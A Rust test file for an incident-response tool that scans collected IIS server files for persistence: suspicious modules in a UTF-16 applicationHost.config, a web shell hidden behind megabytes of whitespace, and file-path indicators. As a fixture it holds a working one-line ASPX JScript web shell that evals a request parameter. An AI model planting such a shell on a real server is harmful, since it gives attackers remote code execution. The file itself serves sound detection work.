//! Files of a web server as a responder collects them: configuration in any encoding, pages that hide, paths on the server.
//!
//! In: small collections. Out: which findings and doors they give, and which they must not.

use serde_json::json;

use crate::scratch::{CASE, Scratch, text};

const SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>";

/// A configuration with these entries in `<modules>`.
fn configuration(modules: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<configuration>\n <system.webServer>\n  <modules>\n{modules}\n  </modules>\n </system.webServer>\n</configuration>\n"
    )
}

fn utf_16(text: &str) -> Vec<u8> {
    format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn titles(scratch: &Scratch) -> Vec<(String, String)> {
    let all = scratch.lines("findings.jsonl");
    let mut titles: Vec<_> = all.iter().map(|one| (text(one, "level"), text(one, "title"))).collect();
    titles.sort();
    titles
}

fn door_places(scratch: &Scratch) -> Vec<String> {
    let doors = scratch.object("doors.json");
    let mut places: Vec<String> = doors["doors"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|door| format!("{} {}", text(door, "kind"), text(door, "place")))
        .collect();
    places.sort();
    places
}

#[test]
fn a_module_in_a_configuration_in_utf_16_is_a_door_that_leads_to_its_bytes() {
    let scratch = Scratch::new();
    let entry = r#"<add name="Owa2" type="ClassLibrary2.Module, ClassLibrary2" />"#;
    scratch.write(
        "MX01/C/Windows/System32/inetsrv/config/applicationHost.config",
        utf_16(&configuration(entry)),
    );
    scratch.investigate("MX01").expect(0);
    assert_eq!(door_places(&scratch), ["iis-module ClassLibrary2.Module, ClassLibrary2"]);
    let shown = scratch.piste(&["show", "F-1", "--case", CASE]).expect(0).out;
    assert!(shown.contains("the same as when the row was made"), "{shown}");
    assert!(shown.contains("3c 00 61 00 64 00 64 00"), "{shown}");
}

#[test]
fn products_and_applications_bring_modules_that_are_no_doors() {
    let scratch = Scratch::new();
    let elmah = r#"<add name="ErrorLog" type="Elmah.ErrorLogModule, Elmah" />"#;
    let own = r#"<add name="Shop" type="Shop.Web.SessionModule, Shop.Web" />"#;
    scratch.write("MX01/C/inetpub/wwwroot/web.config", configuration(elmah));
    scratch.write("MX01/C/inetpub/wwwroot/shop/web.config", configuration(own));
    scratch.investigate("MX01").expect(0);
    assert_eq!(door_places(&scratch), Vec::<String>::new());
    assert_eq!(
        titles(&scratch),
        [(
            "low".to_owned(),
            "An Application's Configuration Registers A Module That No List Knows".to_owned()
        )]
    );
}

#[test]
fn a_shell_behind_blanks_is_found_and_one_over_the_limit_is_not_called_clean() {
    let scratch = Scratch::new();
    let hidden = format!("<%@ Page Language=\"Jscript\"%>{}{SHELL}", " ".repeat(7 << 20));
    scratch.write("MX01/C/inetpub/wwwroot/a.aspx", hidden);
    let far = format!("<%@ Page Language=\"Jscript\"%>{}{SHELL}", "<!-- 1 -->\n".repeat(3 << 20));
    scratch.write("MX01/C/inetpub/wwwroot/far.aspx", far);
    scratch.investigate("MX01").expect(0);
    assert_eq!(door_places(&scratch), [r"webshell C:\inetpub\wwwroot\a.aspx"]);
    let issue = scratch.issue("page-too-long");
    assert_eq!(text(&issue, "path"), "MX01/C/inetpub/wwwroot/far.aspx");
    assert!(text(&issue, "effect").contains("was not seen"), "{issue}");
}

#[test]
fn an_indicator_that_names_the_path_on_the_server_meets_the_collected_file() {
    let scratch = Scratch::new();
    scratch.write("MX01/C/inetpub/wwwroot/aspnet_client/b.php", "<?php echo 1;");
    scratch.write("MX01/C/inetpub/wwwroot/b.php", "<?php echo 2;");
    scratch.write("list.csv", "indicator,type\nC:\\inetpub\\wwwroot\\aspnet_client\\b.php,file-path\nD:\\inetpub\\wwwroot\\b.php,file-path\n");
    scratch.investigate("MX01 --indicators list.csv").expect(0);
    let seen = scratch.lines("sightings.jsonl");
    assert_eq!(seen.len(), 1, "the drive counts: {seen:?}");
    assert_eq!(seen[0]["count"], json!(1));
    let found =
        scratch.piste(&["search", r"ServerPath=C:\inetpub\wwwroot\b.php", "--case", CASE]).expect(0).out;
    assert!(found.contains("b.php"), "{found}");
}
